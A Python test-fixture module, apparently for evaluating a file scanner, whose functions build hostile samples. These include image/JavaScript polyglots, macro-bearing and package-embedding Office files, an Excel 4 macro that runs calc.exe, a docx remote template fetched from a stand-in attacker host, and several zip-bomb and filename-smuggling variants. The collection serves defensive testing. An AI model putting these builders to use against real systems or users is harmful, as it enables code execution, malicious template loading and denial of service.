"""Files made to harm: two kinds in one, programs, Office files that bring more than they show. Builders return bytes."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path

from PIL import Image

from tests.evaluations.evidence import corpus

SCRIPT = b"<html><script>alert(1)</script></html>"
URL = "https://penyerang.example/templat.dotm"


# Programs


def program() -> bytes:
    """A real one, of this machine."""
    return Path("/bin/true").read_bytes()


def windows_program() -> bytes:
    """A header that leads to another, as Windows wants it."""
    header = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return header + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x0022) + bytes(300)


def mac_program(magic: int = 0xFEEDFACF) -> bytes:
    """Of one processor's bit width and byte order, as ``magic`` says; an executable, so type 2."""
    return struct.pack("<IIIIII", magic, 0x01000007, 3, 2, 0, 0) + bytes(300)


SHELL = b"#!/bin/sh\necho jahat\n"


# Two kinds in one


def with_comment(data: bytes, comment: bytes) -> bytes:
    """A JPEG with a comment as its first part."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def jpeg_and_page() -> bytes:
    return with_comment(corpus.picture("JPEG"), SCRIPT)


def jpeg_and_pdf() -> bytes:
    return with_comment(corpus.picture("JPEG"), corpus.pdf())


def jpeg_and_script() -> bytes:
    """The length of its first part reads ``/*``: what a page loads as a script skips the picture as a comment."""
    plain = Image.new("RGB", (8, 8), "teal")
    out = io.BytesIO()
    plain.save(out, "JPEG")
    picture = out.getvalue()
    first = b"\xff\xe0/*" + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00".ljust(0x2F2A - 2, b"\x00")
    body = with_comment(b"\xff\xd8" + picture[20:], b"*/=1;alert(1);/*")[2:]
    return b"\xff\xd8" + first + body + b"*/"


def gif_and_script() -> bytes:
    """Its width reads ``/*``."""
    out = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(out, "GIF")
    data = bytearray(out.getvalue())
    data[:6] = b"GIF89a"
    return bytes(data) + b"*/=1;alert(1);"


def webp_and_script() -> bytes:
    """Its size reads ``/*``, and it has just that size."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(out, "WEBP")
    size = int.from_bytes(b"/*\x00\x00", "little")
    body = out.getvalue()[12:]
    # That number is odd, and parts lie on even places: one byte is left over at the end.
    note = b"*/=1;alert(1);/*".ljust(size - 4 - len(body) - 8 - 1)
    part = b"NOTE" + struct.pack("<I", len(note)) + note
    return (b"RIFF" + struct.pack("<I", size) + b"WEBP" + body + part + b" ")[:-2] + b"*/"


def with_archive(data: bytes) -> bytes:
    return data + corpus.zip_of(jahat=b"\xca\xfe\xba\xbe")


def page_then_pdf() -> bytes:
    """A page first; programs look for the PDF in the first 1,024 bytes."""
    return SCRIPT + b"\n" + corpus.pdf()


def pdf_then_page() -> bytes:
    return corpus.pdf() + SCRIPT


# OLE: the container of old Office files, of macros, and of locked new ones


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file of version 3 that holds the streams, each of 4,096 bytes or more."""
    padded = {name: data.ljust(4096, b"\x00") for name, data in streams.items()}
    padded = {name: data + bytes(-len(data) % 512) for name, data in padded.items()}
    folder = (len(streams) + 4) // 4
    fat = [0xFFFFFFFD, *range(2, folder + 1), 0xFFFFFFFE]
    entries = [_ole_entry("Root Entry", 5, 1, 0xFFFFFFFF, 0xFFFFFFFE, 0)]
    for number, (name, data) in enumerate(padded.items(), 1):
        start, sectors = len(fat), len(data) // 512
        following = number + 1 if number < len(padded) else 0xFFFFFFFF
        entries.append(_ole_entry(name, 2, 0xFFFFFFFF, following, start, len(data)))
        fat += [*range(start + 1, start + sectors), 0xFFFFFFFE]
    assert len(fat) <= 128
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack(
        "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
    )
    header += struct.pack("<I", 0) + b"\xff" * 432
    table = b"".join(struct.pack("<I", n) for n in fat).ljust(512, b"\xff")
    return header + table + b"".join(entries).ljust(folder * 512, b"\x00") + b"".join(padded.values())


def _ole_entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
    text = name.encode("utf-16-le")
    return (
        text.ljust(64, b"\x00")
        + struct.pack("<HBBIII", len(text) + 2, kind, 1, 0xFFFFFFFF, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


def macros() -> bytes:
    """What Word calls ``vbaProject.bin``, as far as a scanner looks."""
    return ole({"_VBA_PROJECT": b"\xcc\x61", "ThisDocument": b"Attribut\x00e VB_Nam\x00e AutoOpen Shell"})


def package() -> bytes:
    """An object that a double click runs."""
    return ole({"\x01Ole10Native": b"pasang.exe\x00" + windows_program()})


def locked_office() -> bytes:
    return ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": os.urandom(5000)})


# Office files

_OFFICE = "application/vnd.ms-office.vbaProject"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA = f'<Override PartName="/{{}}/vbaProject.bin" ContentType="{_OFFICE}"/>'


def docm() -> bytes:
    """As Word saves it with macros, but for the name."""
    return corpus.office(
        "docx",
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        overrides=_VBA.format("word"),
        members={"word/vbaProject.bin": macros()},
    )


def xlsm() -> bytes:
    return corpus.office(
        "xlsx",
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        overrides=_VBA.format("xl"),
        members={"xl/vbaProject.bin": macros()},
    )


def docx_with_macros_named_picture() -> bytes:
    return corpus.office("docx", members={"word/media/image1.bin": macros()})


def xlsx_with_macro_sheet() -> bytes:
    """Macros of 1992, which Excel runs to this day."""
    sheet = b"<macrosheet><sheetData><c><f>EXEC(&quot;calc.exe&quot;)</f></c></sheetData></macrosheet>"
    kind = '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    return corpus.office("xlsx", overrides=kind, members={"xl/a.xml": sheet})


def docx_with_remote_template(target: str = URL, kind: str = "attachedTemplate") -> bytes:
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return corpus.office("docx", members={"word/_rels/settings.xml.rels": link.encode()})


def docx_with(name: str, data: bytes) -> bytes:
    return corpus.office("docx", members={name: data})


# Bombs


@cache
def nested_bomb() -> bytes:
    """An archive within the document: 100 kB that hold 100 MB once both are unpacked."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(2):
            archive.writestr(f"{number}.txt", bytes(50_000_000))
    return docx_with("word/embeddings/lampiran.zip", inner.getvalue())


@cache
def honest_bomb() -> bytes:
    return docx_with("word/media/nol.bin", bytes(60_000_000))


def lying_bomb() -> bytes:
    """60 MB that declare 1,000 bytes in both places, with the checksum of those: ``zipfile`` sees nothing wrong."""
    data = bytearray(honest_bomb())
    claimed = struct.pack("<III", zlib.crc32(bytes(1000)), 0, 1000)
    name = b"word/media/nol.bin"
    for signature, offset, at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        place = -1
        while bytes(data[place + at : place + at + len(name)]) != name:
            place = data.index(signature, place + 1)
        packed = data[place + offset + 4 : place + offset + 8]
        data[place + offset : place + offset + 12] = claimed[:4] + packed + claimed[8:]
    return bytes(data)


def overlapping_bomb(layers: int = 60) -> bytes:
    """Each member holds all members behind it; every checksum is right, and no size is a lie."""
    start = corpus.office("docx")
    end = int.from_bytes(start[-6:-2], "little")
    body, directory = start[:end], start[end:-22]
    held = b"x" * 100_000
    stack: list[tuple[str, int, bytes]] = []
    for number in range(layers):
        name = f"word/media/{number:03}.bin"
        header = struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(held), len(held), len(held), 18, 0
        )
        stack.append((name, len(header) + 18, held))
        held = header + name.encode() + held
    place = len(body)
    for name, skip, content in reversed(stack):
        head = struct.pack(
            "<4sHHHHHHIII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(content), len(content), len(content)
        )
        directory += head + struct.pack("<HHHHHII", 18, 0, 0, 0, 0, 0, place) + name.encode()
        place += skip
    count = layers + 2
    end_record = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body) + len(held), 0
    )
    return body + held + directory + end_record


def endless_directory(entries: int = 60_000) -> bytes:
    """A table of contents of 3.5 MB; read, it takes ten times that."""
    start = corpus.office("docx")
    end = int.from_bytes(start[-6:-2], "little")
    directory = start[end:-22]
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 12, 0, 0, 0, 0, 0, 0
    )
    more = b"".join(entry + b"word/%07d" % number for number in range(entries))
    size = len(directory) + len(more)
    return start[:end] + directory + more + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, size, end, 0)


def docx_climbing(name: str) -> bytes:
    return docx_with(name, b"x")


def docx_with_nul_in_a_name() -> bytes:
    return docx_with("word/a.txt_.exe", b"x").replace(b"word/a.txt_.exe", b"word/a.txt\x00.exe")
